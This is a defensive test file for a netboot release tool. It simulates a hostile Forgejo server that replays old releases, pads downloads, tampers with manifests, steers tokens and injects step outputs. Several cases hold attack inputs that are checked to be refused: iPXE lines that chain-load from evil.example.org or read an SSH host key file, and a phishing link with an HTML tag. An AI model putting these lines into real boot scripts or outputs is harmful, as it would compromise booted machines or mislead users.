/**
 * What a hostile server can still try around a release: replay an old signed release as a new
 * one, fill the boot server's disk, choose what verify builds, boot from an unsigned manifest,
 * serve a script that loads from elsewhere, steer the token, inject step outputs, change a
 * release under prune, and leave a failed --replace with two copies of a file. Each test names
 * the behaviour a user sees.
 */
import assert from "node:assert/strict";
import * as fs from "node:fs/promises";
import * as path from "node:path";
import { compareRebuild } from "../scripts/lib/verify.ts";
import { type Emulator, startForgejo } from "./forgejo/emulator.ts";
import {
  sha256,
  TAG,
  TOKEN,
  verifyAgainstSums,
  withWorld,
  type World,
  world,
} from "./forgejo_world.ts";
import {
  api,
  assertOneLineFailure,
  assetUuid,
  fetchTag,
  listing,
  netboot,
  releaseByHand,
  scene,
  SCRIPT,
} from "./boot_dir_helpers.ts";
import { publishFromGit } from "./git_fixture.ts";
import { nixTest } from "./nix_helpers.ts";
import {
  baseEnv,
  exists,
  parseStepOutputs,
  type Run,
  runMain,
  runRelease,
  sha256sumCheck,
} from "./run_helpers.ts";
import { type Keys, makeKeys, sshSign } from "./signing_helpers.ts";

const INITRD = "netboot-x86_64-linux.initrd";
const KERNEL = "netboot-x86_64-linux.bzImage";
const COMMIT = "0123456789abcdef0123456789abcdef01234567";
/** Retries of an injected 500 take milliseconds, not seconds. */
const FAST = { RELEASE_BOOT_RETRY_DELAY_MS: "1" };

function lines(text: string): string[] {
  return text.trim().split("\n").filter(Boolean);
}

/**
 * A release published with a signing key, and a boot directory holding one file of the
 * operator's, so a test can show that nothing under --out changed.
 */
async function signedScene(
  test: (w: World, keys: Keys, out: string) => Promise<void>,
): Promise<void> {
  const w = await world();
  const keys = await makeKeys();
  const out = path.join(keys.dir, "pxe");
  try {
    const published = await w.publish(["--targets", "netboot"], {
      RELEASE_BOOT_SIGNING_KEY: keys.keyText,
    });
    assert.equal(published.code, 0, published.stderr);
    await fs.mkdir(out);
    await fs.writeFile(path.join(out, "keep-me"), "the operator's file\n");
    await test(w, keys, out);
  } finally {
    await w.close();
    await fs.rm(keys.dir, { recursive: true, force: true });
  }
}

function fetchTrusting(w: World, keys: Keys, out: string, tag: string) {
  return w.fetch(out, ["--tag", tag, "--trust", keys.allowedSigners]);
}

// ---------------------------------------------------------------------------------------------
// 1. A signed old release served as a new one
// ---------------------------------------------------------------------------------------------

nixTest(
  "fetch --trust refuses the release a server gives for another tag, and changes nothing",
  () =>
    signedScene(async (w, keys, out) => {
      const [old] = w.forgejo.releases();
      w.forgejo.addFault({
        method: "GET",
        path: "/releases/tags/boot-v3.0.0",
        fault: { kind: "answer", body: () => old },
      });
      const before = await listing(out);
      const run = await fetchTrusting(w, keys, out, "boot-v3.0.0");
      assertOneLineFailure(
        run,
        /^release-boot: asked for release boot-v3\.0\.0, the server answered with boot-v1\.0\.0: refusing it; nothing was changed: check --server$/,
      );
      assert.deepEqual(await listing(out), before, "nothing under --out changed");
    }),
);

nixTest(
  "fetch --trust refuses an old signed release listed again under a new tag, even as latest",
  () =>
    signedScene(async (w, keys, out) => {
      // The unchanged, validly signed files of boot-v1.0.0 as a new release boot-v9.9.9.
      const old = w.release();
      const replay = await api(
        w,
        "POST",
        "/releases",
        JSON.stringify({ tag_name: "boot-v9.9.9", target_commitish: w.work.commit }),
      );
      for (const asset of old.assets) {
        const [bytes] = await w.forgejo.assetBytes(old.id, asset.name);
        const query = new URLSearchParams({ name: asset.name });
        await api(
          w,
          "POST",
          `/releases/${replay.id}/assets?${query}`,
          new Uint8Array(bytes),
          false,
        );
      }
      const before = await listing(out);
      for (const tag of ["latest", "boot-v9.9.9"]) {
        const run = await fetchTrusting(w, keys, out, tag);
        assertOneLineFailure(
          run,
          /^release-boot: the signed manifest\.json of boot-v9\.9\.9 names boot-v1\.0\.0: an older release served under another tag; nothing was changed: fetch boot-v1\.0\.0 by its own tag, or check --server$/,
        );
        assert.deepEqual(await listing(out), before, `${tag}: nothing under --out changed`);
      }
    }),
);

// ---------------------------------------------------------------------------------------------
// 2. A server filling the boot server's disk
// ---------------------------------------------------------------------------------------------

Deno.test("a file served larger than the release lists is cut off at its size and deleted", () =>
  scene(async (w, out) => {
    await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    const uuid = await assetUuid(w, "boot-v1", "initrd");
    const served = `/attachments/${uuid}`;
    w.forgejo.addFault({ method: "GET", path: served, fault: { kind: "pad", bytes: 128 << 20 } });
    const run = await fetchTag(w, out, "boot-v1");
    assertOneLineFailure(
      run,
      /^release-boot: initrd is larger than the 18 bytes boot-v1 lists: the server sent more, so the download was stopped and deleted; rerun, and if it persists the release's file is damaged$/,
    );
    const sent = w.forgejo.requests.filter((r) => r.path === served)
      .reduce((sum, r) => sum + r.sentBytes, 0);
    assert.ok(sent < 32 << 20, `fetch read ${sent} bytes of an 18-byte file before it stopped`);
    const left = await fs.readdir(path.join(out, "boot-v1"));
    assert.ok(!left.some((name) => name.startsWith("initrd")), `left: ${left}`);
    assert.ok(!(await fs.readdir(out)).includes("current"), "nothing to boot was pointed at");
  }));

nixTest(
  "under --trust a download stops at the size the signed manifest records, whatever the server lists",
  () =>
    signedScene(async (w, keys, out) => {
      const release = w.release();
      const initrd = release.assets.find((asset) => asset.name === INITRD);
      assert.ok(initrd, INITRD);
      const [bytes] = await w.forgejo.assetBytes(release.id, INITRD);
      // The server lists and serves a kilobyte more than the release key signed for.
      const extra = 1024;
      w.forgejo.addFault({
        method: "GET",
        path: `/releases/tags/${TAG}`,
        times: 1000,
        fault: {
          kind: "edit",
          edit: (listed) => {
            const answer = listed as { assets: { name: string; size: number }[] };
            return {
              ...answer,
              assets: answer.assets.map((a) =>
                a.name === INITRD ? { ...a, size: a.size + extra } : a
              ),
            };
          },
        },
      });
      const served = `/attachments/${initrd.uuid}`;
      w.forgejo.addFault({ method: "GET", path: served, fault: { kind: "pad", bytes: extra } });
      const run = await fetchTrusting(w, keys, out, TAG);
      assertOneLineFailure(
        run,
        new RegExp(
          `^release-boot: ${
            INITRD.replaceAll(".", "\\.")
          } is larger than the ${bytes.length} bytes ${
            TAG.replaceAll(".", "\\.")
          } lists: the server sent more, so the download was stopped and deleted; rerun, and if it persists the release's file is damaged$`,
        ),
      );
      assert.ok(!(await fs.readdir(out)).includes("current"), "nothing to boot was pointed at");
    }),
);

Deno.test("a part left at or past a file's size is never resumed: the file is downloaded whole", () =>
  scene(async (w, out) => {
    const files = await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    const uuid = await assetUuid(w, "boot-v1", "initrd");
    w.forgejo.addFault({
      method: "GET",
      path: `/attachments/${uuid}`,
      fault: { kind: "status", status: 404 },
    });
    assert.equal((await fetchTag(w, out, "boot-v1")).code, 1, "the first fetch stops at initrd");
    // What a server that sent more than the file holds leaves behind on a full disk.
    const sum = sha256(new TextEncoder().encode(files.initrd)).slice(0, 16);
    await fs.writeFile(
      path.join(out, "boot-v1", `initrd.${sum}.part`),
      `${files.initrd}and many more bytes than the initrd has\n`,
    );
    const run = await fetchTag(w, out, "boot-v1");
    assert.equal(run.code, 0, run.stderr);
    const resumed = w.forgejo.requests.filter((r) =>
      r.path === `/attachments/${uuid}` && r.headers.range !== undefined
    );
    assert.deepEqual(resumed.map((r) => r.headers.range), [], "no download was resumed");
    assert.equal(await fs.readFile(path.join(out, "current", "initrd"), "utf8"), files.initrd);
    assert.equal((await sha256sumCheck(path.join(out, "current"))).code, 0);
    assert.deepEqual(
      (await fs.readdir(path.join(out, "boot-v1"))).filter((name) => name.endsWith(".part")),
      [],
    );
  }));

nixTest(
  "under --trust a part between the signed size and the larger one the server lists is discarded, and the file downloaded again within the signed size",
  () =>
    signedScene(async (w, keys, out) => {
      const release = w.release();
      const initrd = release.assets.find((asset) => asset.name === INITRD);
      assert.ok(initrd, INITRD);
      const [bytes] = await w.forgejo.assetBytes(release.id, INITRD);
      // The server lists a kilobyte more than the release key signed for.
      const extra = 1024;
      w.forgejo.addFault({
        method: "GET",
        path: `/releases/tags/${TAG}`,
        times: 1000,
        fault: {
          kind: "edit",
          edit: (listed) => {
            const answer = listed as { assets: { name: string; size: number }[] };
            return {
              ...answer,
              assets: answer.assets.map((a) =>
                a.name === INITRD ? { ...a, size: a.size + extra } : a
              ),
            };
          },
        },
      });
      const served = `/attachments/${initrd.uuid}`;
      w.forgejo.addFault({ method: "GET", path: served, fault: { kind: "status", status: 404 } });
      const stopped = await fetchTrusting(w, keys, out, TAG);
      assert.equal(stopped.code, 1, "the first fetch stops at the initrd");
      // What a fetch that believed the server's size leaves: more than was signed, less than listed.
      const part = path.join(out, TAG, `${INITRD}.${sha256(bytes).slice(0, 16)}.part`);
      const planted = new Uint8Array(bytes.length + extra / 2).fill(7);
      planted.set(bytes);
      const plant = () => fs.writeFile(part, planted);

      await plant();
      w.forgejo.addFault({ method: "GET", path: served, fault: { kind: "pad", bytes: extra } });
      const padded = await fetchTrusting(w, keys, out, TAG);
      assertOneLineFailure(
        padded,
        new RegExp(
          `^release-boot: ${
            INITRD.replaceAll(".", "\\.")
          } is larger than the ${bytes.length} bytes ${
            TAG.replaceAll(".", "\\.")
          } lists: the server sent more, so the download was stopped and deleted; rerun, and if it persists the release's file is damaged$`,
        ),
      );
      assert.equal(await exists(part), false, "the part was deleted");

      await plant();
      const run = await fetchTrusting(w, keys, out, TAG);
      assert.equal(run.code, 0, run.stderr);
      const resumed = w.forgejo.requests.filter((r) =>
        r.path === served && r.headers.range !== undefined
      );
      assert.deepEqual(resumed.map((r) => r.headers.range), [], "no download was resumed");
      assert.equal(sha256(await fs.readFile(path.join(out, "current", INITRD))), sha256(bytes));
      assert.equal(await exists(part), false, "no part is left");
    }),
);

/** A server answering every request with `answer`, and the Range header of each it got. */
function serveOnLoopback(answer: () => Response) {
  const ranges: (string | null)[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
    ranges.push(request.headers.get("range"));
    return answer();
  });
  return {
    url: `http://127.0.0.1:${server.addr.port}/initrd`,
    ranges,
    close: () => server.shutdown(),
  };
}

Deno.test("a resume the server does not honour starts again from 0, or is refused, or judges the part as it is", (t) =>
  scene(async (w, out) => {
    const files = await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    const initrd = new TextEncoder().encode(files.initrd);
    const uuid = await assetUuid(w, "boot-v1", "initrd");
    w.forgejo.addFault({
      method: "GET",
      path: `/attachments/${uuid}`,
      fault: { kind: "status", status: 404 },
    });
    assert.equal((await fetchTag(w, out, "boot-v1")).code, 1, "the first fetch stops at initrd");
    const part = path.join(out, "boot-v1", `initrd.${sha256(initrd).slice(0, 16)}.part`);
    const whole = `bytes 0-${initrd.length - 1}/${initrd.length}`;
    const cases: [string, () => Response, (run: Run) => Promise<void>][] = [
      ["a whole answer (200) to a resume", () => new Response(initrd), async (run) => {
        assert.equal(run.code, 0, run.stderr);
        assert.doesNotMatch(run.stderr, /resuming/);
        assert.equal(await fs.readFile(path.join(out, "current", "initrd"), "utf8"), files.initrd);
      }],
      [
        "a 206 from another offset",
        () => new Response(initrd, { status: 206, headers: { "content-range": whole } }),
        async (run) => {
          assertOneLineFailure(
            run,
            new RegExp(
              `^release-boot: the server resumed initrd at ${whole}, not at 5; rerun to download it whole$`,
            ),
          );
          assert.equal(await exists(part), false, "the part was deleted");
        },
      ],
      [
        "a 416 to a part shorter than the file",
        () =>
          new Response("", {
            status: 416,
            headers: { "content-range": `bytes */${initrd.length}` },
          }),
        async (run) => {
          assertOneLineFailure(
            run,
            /^release-boot: initrd does not match SHA256SUMS \(expected [0-9a-f]{64}, got [0-9a-f]{64} for 5 bytes\); the download was deleted: rerun, and if it persists the release's file is damaged$/,
          );
          assert.equal(await exists(part), false, "the part was deleted");
        },
      ],
    ];
    for (const [what, answer, check] of cases) {
      await t.step(what, async () => {
        await fs.rm(path.join(out, "current"), { force: true });
        await fs.rm(path.join(out, "boot-v1", "initrd"), { force: true });
        await fs.writeFile(part, initrd.subarray(0, 5));
        const server = serveOnLoopback(answer);
        try {
          w.forgejo.addFault({
            method: "GET",
            path: `/attachments/${uuid}`,
            fault: { kind: "redirect", location: server.url },
          });
          await check(await fetchTag(w, out, "boot-v1"));
          assert.deepEqual(server.ranges, ["bytes=5-"], "the download resumed after the part");
        } finally {
          await server.close();
        }
      });
    }
  }));

Deno.test("a release larger than the free space under DIR is refused before anything is written", () =>
  scene(async (w, out) => {
    await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    // The server lists the initrd at 1 PiB: no file system here has room for it.
    w.forgejo.addFault({
      method: "GET",
      path: "/releases/tags/boot-v1",
      fault: {
        kind: "edit",
        edit: (release) => {
          const listed = release as { assets: { name: string; size: number }[] };
          return {
            ...listed,
            assets: listed.assets.map((a) => a.name === "initrd" ? { ...a, size: 2 ** 50 } : a),
          };
        },
      },
    });
    await fs.mkdir(out);
    const run = await fetchTag(w, out, "boot-v1");
    assertOneLineFailure(
      run,
      /^release-boot: boot-v1 needs 1024\.0 TiB in \S+pxe, whose file system has [\d.]+ (B|KiB|MiB|GiB|TiB) free: nothing was written; free some space, or fetch into another --out$/,
    );
    assert.deepEqual(await listing(out), [], "nothing was written under DIR");
  }));

// ---------------------------------------------------------------------------------------------
// 3. verify builds only from where --server says
// ---------------------------------------------------------------------------------------------

nixTest(
  "verify without --flake refuses a repository html_url off --server instead of building it",
  () =>
    withWorld(async (w) => {
      const checkout = await publishFromGit(w, "netboot", `html-url-${crypto.randomUUID()}`);
      try {
        w.forgejo.addFault({
          method: "GET",
          path: /\/api\/v1\/repos\/ops\/runners$/,
          times: 10,
          fault: {
            kind: "edit",
            edit: (repository) => ({
              ...repository as object,
              html_url: "https://elsewhere.example.org/ops/runners",
            }),
          },
        });
        const run = await runMain(
          ["verify", "--server", w.forgejo.url, "--repo", "ops/runners", "--tag", TAG],
          { cwd: w.work.dir, env: baseEnv(FAST) },
        );
        assertOneLineFailure(
          run,
          /^release-boot: the repository's html_url https:\/\/elsewhere\.example\.org\/ops\/runners is not on http:\/\/127\.0\.0\.1:\d+, where verify reads the release: refusing to build from it; pass --flake with the release's repository$/,
        );
        assert.doesNotMatch(run.stderr, /^Rebuilding|^==> (Check the flake|Rebuild)/m);
        assert.equal(run.stdout, "", "nothing was rebuilt");
      } finally {
        await fs.rm(checkout.dir, { recursive: true, force: true });
      }
    }),
);

// ---------------------------------------------------------------------------------------------
// 4. An unsigned manifest.json deciding how a signed release boots
// ---------------------------------------------------------------------------------------------

nixTest(
  "fetch --trust refuses a release whose signed SHA256SUMS does not list manifest.json",
  () =>
    signedScene(async (w, keys, out) => {
      const release = w.release();
      // A validly signed SHA256SUMS without manifest.json, beside a manifest.json that swaps
      // the kernel and the initrd.
      const [sums] = await w.forgejo.assetBytes(release.id, "SHA256SUMS");
      const unlisted = new TextDecoder().decode(sums).split("\n")
        .filter((line) => !line.endsWith("  manifest.json")).join("\n");
      const unlistedBytes = new TextEncoder().encode(unlisted);
      await w.forgejo.tamper(release.id, "SHA256SUMS", unlistedBytes);
      await w.forgejo.tamper(release.id, "SHA256SUMS.sig", await sshSign(keys, unlistedBytes));
      const [manifestBytes] = await w.forgejo.assetBytes(release.id, "manifest.json");
      const manifest = JSON.parse(new TextDecoder().decode(manifestBytes));
      const kernel = manifest.assets.find((a: { name: string }) => a.name === KERNEL);
      const initrd = manifest.assets.find((a: { name: string }) => a.name === INITRD);
      [kernel.storePath, initrd.storePath] = [initrd.storePath, kernel.storePath];
      await w.forgejo.tamper(
        release.id,
        "manifest.json",
        new TextEncoder().encode(JSON.stringify(manifest)),
      );

      const before = await listing(out);
      const run = await fetchTrusting(w, keys, out, TAG);
      assertOneLineFailure(
        run,
        /^release-boot: the signed SHA256SUMS of boot-v1\.0\.0 does not list manifest\.json, so nothing signed says how to boot it: refusing it under --trust; nothing was changed: publish the release again with a signing key$/,
      );
      assert.deepEqual(await listing(out), before, "nothing under --out changed");
    }),
);

// ---------------------------------------------------------------------------------------------
// 5. The script served from the boot directory
// ---------------------------------------------------------------------------------------------

Deno.test("a release's script named netboot.ipxe is served rewritten under that name", () =>
  scene(async (w, out) => {
    await releaseByHand(w, "boot-v1", {
      "netboot.ipxe": SCRIPT,
      bzImage: "kernel of boot-v1\n",
      initrd: "initrd of boot-v1\n",
    });
    const run = await fetchTag(w, out, "boot-v1");
    assert.equal(run.code, 0, run.stderr);
    const current = path.join(out, "current");
    const served = await fs.readFile(path.join(current, "netboot.ipxe"), "utf8");
    assert.match(served, /^kernel bzImage init=\/nix\/store\/abc-system\/init initrd=initrd /m);
    assert.match(served, /^initrd initrd$/m);
    assert.doesNotMatch(served, /:\/\//, "netboot.ipxe loads nothing from another host");
    assert.equal((await sha256sumCheck(current)).code, 0);
  }));

Deno.test("a release's script that loads anything but the release's own files, or runs what a boot does not need, is refused, naming the line", (t) =>
  scene(async (w, out) => {
    const outside = (tag: string) =>
      `loads from outside ${tag}: refusing to serve a script that loads anything but the release's own files`;
    const notServed = (command: string) =>
      `runs ${command}, which a boot directory's script may not run: refusing to serve a script that does more than load, check and boot the release's own files`;
    const loads: [string, (tag: string) => string][] = [
      ["chain https://evil.example.org/next.ipxe", outside],
      ["imgfetch https://evil.example.org/extra.cpio", outside],
      ["module file:///etc/ssh/ssh_host_ed25519_key", outside],
      ["chain other-release.ipxe", outside],
      // iPXE 2.0 commands that fetch, and a command after a label.
      ["imgextract bzImage https://evil.example.org/k.gz", () => notServed("imgextract")],
      ["shim https://evil.example.org/shimx64.efi", () => notServed("shim")],
      [":next chain https://evil.example.org/next.ipxe", outside],
    ];
    for (const [n, [load, problem]] of loads.entries()) {
      await t.step(load, async () => {
        const tag = `boot-v${n + 1}`;
        const script = SCRIPT.replace("boot\n", `${load}\nboot\n`);
        await releaseByHand(w, tag, { ...netboot(tag), "runner.ipxe": script });
        const run = await fetchTag(w, out, tag);
        const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
        assertOneLineFailure(
          run,
          new RegExp(
            `^release-boot: runner\\.ipxe of ${tag}, line 4 \\("${escape(load)}"\\), ${
              escape(problem(tag))
            }; nothing was changed$`,
          ),
        );
        assert.deepEqual(await listing(out), [], "nothing was written under DIR");
      });
    }
  }));

// ---------------------------------------------------------------------------------------------
// 9. The mirror guard
// ---------------------------------------------------------------------------------------------

Deno.test("a mirror's subdomains and other ports are the mirror: publishing there is refused before any request", async (t) => {
  for (const server of ["https://codeberg.org:8443", "https://www.codeberg.org"]) {
    await t.step(server, async () => {
      // Only loopback is reachable (a child process's permission): a request to the mirror
      // fails at once, never leaves.
      const run = await runRelease(
        ["--server", server, "--repo", "ops/runners", "--commit", COMMIT, "--targets", "netboot"],
        { env: baseEnv({ FORGEJO_TOKEN: TOKEN }), allowNet: "127.0.0.1" },
      );
      assert.equal(run.code, 1, run.stderr);
      assert.deepEqual(lines(run.stderr), [
        `release-boot: refusing to publish to ${server}: it is on the mirror list (https://codeberg.org), which only distributes releases; publish to the primary Forgejo or change --mirrors`,
      ]);
    });
  }
});

Deno.test("fetch sends no token to a mirror's host on another port", () =>
  scene(async (w, out) => {
    await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    const mark = w.forgejo.requests.length;
    const run = await w.fetch(out, ["--tag", "boot-v1", "--mirrors", "http://127.0.0.1:1"], {
      FORGEJO_TOKEN: TOKEN,
    });
    assert.equal(run.code, 0, run.stderr);
    const sent = w.forgejo.requests.slice(mark);
    assert.ok(sent.length > 0);
    assert.deepEqual(
      sent.filter((r) => r.headers.authorization !== undefined).map((r) => r.path),
      [],
      "no request to the mirror's host carried the token",
    );
  }));

Deno.test("a --mirrors entry without a scheme is the mirror: fetch sends it no token", () =>
  scene(async (w, out) => {
    await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    const mark = w.forgejo.requests.length;
    const run = await runMain(
      [
        ...["fetch", "--server", w.forgejo.url.replace("127.0.0.1", "localhost")],
        ...["--repo", "ops/runners", "--out", out, "--tag", "boot-v1", "--mirrors", "localhost"],
      ],
      { env: baseEnv({ FORGEJO_TOKEN: TOKEN }) },
    );
    assert.equal(run.code, 0, run.stderr);
    const sent = w.forgejo.requests.slice(mark);
    assert.ok(sent.length > 0);
    assert.deepEqual(
      sent.filter((r) => r.headers.authorization !== undefined).map((r) => r.path),
      [],
      "no request to the mirror named by its bare host carried the token",
    );
  }));

// ---------------------------------------------------------------------------------------------
// 10. Step outputs
// ---------------------------------------------------------------------------------------------

/** The server answers every read of the release with `suffix` appended to its html_url. */
function appendToHtmlUrl(w: World, suffix: string): void {
  w.forgejo.addFault({
    method: "GET",
    path: /\/releases\/\d+$/,
    times: 1000,
    fault: {
      kind: "edit",
      edit: (release) => {
        const listed = release as { html_url: string };
        return { ...listed, html_url: `${listed.html_url}${suffix}` };
      },
    },
  });
}

nixTest(
  "a newline in the server's html_url cannot add a step output",
  () =>
    withWorld(async (w) => {
      const file = path.join(w.work.dir, "github-output");
      const injected = "\ninjected=by the server";
      appendToHtmlUrl(w, injected);
      const run = await w.publish(["--targets", "netboot"], { GITHUB_OUTPUT: file });
      assert.equal(run.code, 0, run.stderr);
      const outputs = parseStepOutputs(await fs.readFile(file, "utf8"));
      assert.deepEqual([...outputs.keys()].sort(), ["release-id", "release-url", "tag"]);
      assert.equal(outputs.get("tag"), TAG);
      assert.equal(outputs.get("release-id"), String(w.release().id));
      assert.equal(
        outputs.get("release-url"),
        `${w.forgejo.url}/ops/runners/releases/tag/${TAG}${injected}`,
        "the value is the server's, whole, in one output",
      );
    }),
);

nixTest(
  "the server's html_url cannot add a link or HTML of its own to the step summary",
  () =>
    withWorld(async (w) => {
      const file = path.join(w.work.dir, "step-summary.md");
      const injected = ") [sign in again](https://evil.example.org/login) <img src=x>";
      appendToHtmlUrl(w, injected);
      const run = await w.publish(["--targets", "netboot"], { GITHUB_STEP_SUMMARY: file });
      assert.equal(run.code, 0, run.stderr);
      const heading = (await fs.readFile(file, "utf8")).split("\n")[0];
      assert.equal(
        heading,
        `### Release [${TAG}](${w.forgejo.url}/ops/runners/releases/tag/${TAG}%29%20[sign%20in%20again]%28https://evil.example.org/login%29%20%3Cimg%20src=x%3E)`,
        "one link, to the server's whole answer, percent-encoded",
      );
    }),
);

// ---------------------------------------------------------------------------------------------
// 11. prune and a release that changes under it
// ---------------------------------------------------------------------------------------------

const DAY_MS = 24 * 60 * 60 * 1000;

/** A release without assets, made through the API with the emulator's clock `days` back. */
async function releaseDaysAgo(forgejo: Emulator, tag: string, days: number, draft = false) {
  forgejo.setNow(new Date(Date.now() - days * DAY_MS));
  const answer = await fetch(`${forgejo.url}/api/v1/repos/ops/runners/releases`, {
    method: "POST",
    headers: { authorization: `token ${TOKEN}`, "content-type": "application/json" },
    body: JSON.stringify({
      tag_name: tag,
      target_commitish: COMMIT,
      draft,
      prerelease: tag.startsWith("boot-dev-"),
    }),
  });
  assert.equal(answer.status, 201, await answer.clone().text());
  await answer.body?.cancel();
  forgejo.setNow();
}

/** Someone edits a release in Forgejo, found by the tag it has now. */
async function editRelease(forgejo: Emulator, tag: string, edit: Record<string, unknown>) {
  const release = (forgejo.releases() as { id: number; tag_name: string }[])
    .find((r) => r.tag_name === tag);
  assert.ok(release, `no release ${tag}`);
  const answer = await fetch(`${forgejo.url}/api/v1/repos/ops/runners/releases/${release.id}`, {
    method: "PATCH",
    headers: { authorization: `token ${TOKEN}`, "content-type": "application/json" },
    body: JSON.stringify(edit),
  });
  assert.equal(answer.status, 200, await answer.clone().text());
  await answer.body?.cancel();
}

Deno.test("prune reads each release again before deleting it, and skips one that changed since the listing", async () => {
  const forgejo = await startForgejo();
  try {
    forgejo.addCommit(COMMIT);
    await releaseDaysAgo(forgejo, "boot-v1.0.0", 400);
    await releaseDaysAgo(forgejo, "boot-dev-aaaaaaaaaaaa", 1);
    await releaseDaysAgo(forgejo, "boot-dev-dddddddddddd", 20);
    await releaseDaysAgo(forgejo, "boot-dev-eeeeeeeeeeee", 40);
    await releaseDaysAgo(forgejo, "boot-v2.0.0", 10, true);
    // Right after prune lists the releases, someone publishes the stale draft and retags an
    // old boot-dev release as a real one.
    forgejo.addFault({
      method: "GET",
      path: /\/releases$/,
      fault: {
        kind: "then",
        run: async () => {
          await editRelease(forgejo, "boot-v2.0.0", { draft: false });
          await editRelease(forgejo, "boot-dev-eeeeeeeeeeee", {
            tag_name: "boot-v3.0.0",
            prerelease: false,
          });
        },
      },
    });
    const run = await runMain(
      [
        ...["prune", "--server", forgejo.url, "--repo", "ops/runners", "--timeout", "3"],
        ...["--keep", "1", "--stale-drafts", "7"],
      ],
      { env: baseEnv({ FORGEJO_TOKEN: TOKEN, ...FAST }) },
    );
    assert.equal(run.code, 0, run.stderr);
    const left = (forgejo.releases() as { tag_name: string; draft: boolean }[])
      .map((r) => `${r.tag_name}${r.draft ? " (draft)" : ""}`).sort();
    assert.deepEqual(left, ["boot-dev-aaaaaaaaaaaa", "boot-v1.0.0", "boot-v2.0.0", "boot-v3.0.0"]);
    assert.ok("boot-v2.0.0" in forgejo.tags(), "the release published meanwhile keeps its tag");
    assert.match(
      run.stderr,
      /^Skipped draft boot-v2\.0\.0: it was published since prune listed it, so it is no longer a stale draft; nothing of it was deleted$/m,
    );
    assert.match(
      run.stderr,
      /^Skipped release boot-dev-eeeeeeeeeeee: it is tagged boot-v3\.0\.0 since prune listed it, no longer a boot-dev-\* release; nothing of it was deleted$/m,
    );
    assert.deepEqual(lines(run.stdout), [
      "Deleted release boot-dev-dddddddddddd and its tag (20 days old, 0 B): older than the 1 newest boot-dev releases",
      "Freed 0 B from 1 release",
    ]);
  } finally {
    await forgejo.close();
  }
});

// ---------------------------------------------------------------------------------------------
// 12. A --replace that cannot finish
// ---------------------------------------------------------------------------------------------

/** Asset name -> the sha256 of each stored copy of it, oldest first. */
async function storedCopies(w: World): Promise<Record<string, string[]>> {
  const release = w.release();
  const copies: Record<string, string[]> = {};
  for (const name of new Set(release.assets.map((a) => a.name))) {
    copies[name] = (await w.forgejo.assetBytes(release.id, name)).map(sha256);
  }
  return copies;
}

nixTest(
  "a --replace that cannot finish deletes the copies it added: the release holds exactly its previous files",
  () =>
    withWorld(async (w) => {
      assert.equal((await w.publish(["--targets", "netboot"])).code, 0);
      const before = await storedCopies(w);
      // New bytes for kernel and initrd; their two uploads land, every later upload gets 500.
      await fs.writeFile(path.join(w.fixture.dir, "salt.nix"), '"two"\n');
      w.forgejo.addFault({
        method: "POST",
        path: "/assets",
        after: 2,
        times: 5, // every try of this run: the rerun gets through
        fault: { kind: "status", status: 500 },
      });
      const failed = await w.publish(["--targets", "netboot", "--replace"], FAST);
      const landed = w.forgejo.requests.filter((r) =>
        r.method === "POST" && r.path.endsWith("/assets") && r.status === 201
      );
      assert.ok(landed.length >= 2, "the replacement had uploaded copies before it failed");
      assert.deepEqual(await storedCopies(w), before, "exactly the previous files, each once");
      assertOneLineFailure(
        failed,
        /; the published release boot-v1\.0\.0 is as it was: the 2 copies this run uploaded were deleted again; rerun the same command to finish$/,
      );
      assert.equal(w.release().draft, false);
      await verifyAgainstSums(w.forgejo, w.release());

      const rerun = await w.publish(["--targets", "netboot", "--replace"], FAST);
      assert.equal(rerun.code, 0, rerun.stderr);
      const after = await storedCopies(w);
      assert.ok(Object.values(after).every((copies) => copies.length === 1), "every name once");
      assert.notDeepEqual(after[KERNEL], before[KERNEL], "the rerun stored the new kernel");
      await verifyAgainstSums(w.forgejo, w.release());
    }),
);

// ---------------------------------------------------------------------------------------------
// 13. Guards no other test exercises
// ---------------------------------------------------------------------------------------------

Deno.test("the token goes only to the server's origin, even to a download URL the server names elsewhere", () =>
  scene(async (w, out) => {
    await releaseByHand(w, "boot-v1", netboot("boot-v1"));
    // The same emulator under another name is another origin; without a uuid, fetch must
    // use the browser_download_url the server gives.
    const elsewhere = w.forgejo.url.replace("127.0.0.1", "localhost");
    w.forgejo.addFault({
      method: "GET",
      path: "/releases/tags/boot-v1",
      fault: {
        kind: "edit",
        edit: (release) => {
          const listed = release as { assets: { name: string; uuid?: string }[] };
          return {
            ...listed,
            assets: listed.assets.map(({ uuid: _, ...asset }) => ({
              ...asset,
              browser_download_url:
                `${elsewhere}/ops/runners/releases/download/boot-v1/${asset.name}`,
            })),
          };
        },
      },
    });
    const mark = w.forgejo.requests.length;
    const run = await w.fetch(out, ["--tag", "boot-v1"], { FORGEJO_TOKEN: TOKEN });
    assert.equal(run.code, 0, run.stderr);
    const sent = w.forgejo.requests.slice(mark);
    const offOrigin = sent.filter((r) => r.headers.host?.startsWith("localhost:"));
    assert.ok(offOrigin.length >= 4, "the files were read from the other origin");
    assert.deepEqual(
      offOrigin.filter((r) => r.headers.authorization !== undefined).map((r) => r.path),
      [],
      "no token to another origin",
    );
    assert.ok(
      sent.some((r) => r.headers.authorization === `token ${TOKEN}`),
      "the server's own origin got the token",
    );
  }));

Deno.test("a rebuilt digest that differs from the release's in one digit, first or last, is different", () => {
  const released = `0${"a".repeat(62)}0`;
  for (const rebuilt of [`1${"a".repeat(62)}0`, `0${"a".repeat(62)}1`]) {
    assert.deepEqual(
      compareRebuild(new Map([["x.initrd", released]]), [
        { name: "x.initrd", size: 1, sha256: rebuilt },
      ]),
      [{ name: "x.initrd", result: "different", expected: released, actual: rebuilt }],
    );
  }
});

// ---------------------------------------------------------------------------------------------
// 14. Answers with addresses no Forgejo gives
// ---------------------------------------------------------------------------------------------

type Listed = { html_url: string; assets: { name: string; uuid?: string }[] };

Deno.test("an asset's download address or uuid that is not one is a one-line failure of fetch", (t) =>
  scene(async (w, out) => {
    const cases: [string, (release: Listed) => Listed, RegExp][] = [
      [
        "no uuid and a browser_download_url that is not a URL",
        (release) => ({
          ...release,
          assets: release.assets.map(({ uuid: _, ...asset }) => ({
            ...asset,
            browser_download_url: "::not a url",
          })),
        }),
